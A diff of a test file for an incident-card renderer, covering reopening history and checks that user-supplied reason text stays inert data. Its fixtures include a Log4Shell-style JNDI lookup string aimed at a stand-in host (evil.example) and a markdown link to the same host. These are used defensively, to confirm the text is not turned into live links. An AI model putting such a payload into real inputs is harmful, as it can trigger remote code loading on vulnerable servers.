@@ -223,9 +223,11 @@ describe('incident card: closed and reopened', () => {
     expect(problems(card, { userText: FOLLOW_USER_TEXT })).toEqual([]);
     const list = texts(card);
     expect(actions(card).find((a) => a.title === 'History: 7 reopenings')).toMatchObject({ type: 'Action.ToggleVisibility', targetElements: ['history'] });
-    const at = list.indexOf('History: 7 reopenings') >= 0 ? -1 : list.findIndex((t) => t === '2 earlier reopenings are kept in the record.') - 1;
-    expect(list[at + 1]).toBe('2 earlier reopenings are kept in the record.');
-    expect(list.slice(at + 2, at + 4)).toEqual(['Reopened by Pat Manager on 3 Nov 2026, 10:00', plainText('Reason: Reason 2 **again** [x](http://evil.example)')]);
+    // "History: 7 reopenings" is the toggle's title, not a text block: the list starts with the count.
+    expect(list).not.toContain('History: 7 reopenings');
+    const at = list.indexOf('2 earlier reopenings are kept in the record.');
+    expect(at).toBeGreaterThan(0);
+    expect(list.slice(at + 1, at + 3)).toEqual(['Reopened by Pat Manager on 3 Nov 2026, 10:00', plainText('Reason: Reason 2 **again** [x](http://evil.example)')]);
     expect(list.filter((t) => t.startsWith('Reopened by '))).toHaveLength(5);
     expect(list.filter((t) => t.startsWith('Reopened by ')).at(-1)).toBe('Reopened by Pat Manager on 7 Nov 2026, 10:00');
   });
@@ -306,8 +308,9 @@ describe('incident card: follow-through text is data', () => {
     expect(shown).toContain('${jndi:ldap://evil.example/a}');
     expect(shown).not.toContain('Shortened to fit');
     expect(texts(hostile)).toContain(plainText(`Reason: ${HOSTILE}`));
-    if (status === 'closed') expect(texts(hostile).filter((t) => t === plainText(HOSTILE))).toHaveLength(2);
-    else expect(texts(hostile)).toContain(plainText(`What happened: ${HOSTILE}`));
+    // The done task's outcome on both; the closure's outcome and lessons learnt once closed.
+    expect(texts(hostile)).toContain(plainText(`What happened: ${HOSTILE}`));
+    expect(texts(hostile).filter((t) => t === plainText(HOSTILE))).toHaveLength(status === 'closed' ? 2 : 0);
     expect(JSON.stringify(hostile)).not.toContain('"Action.OpenUrl","url"');
   });
 });
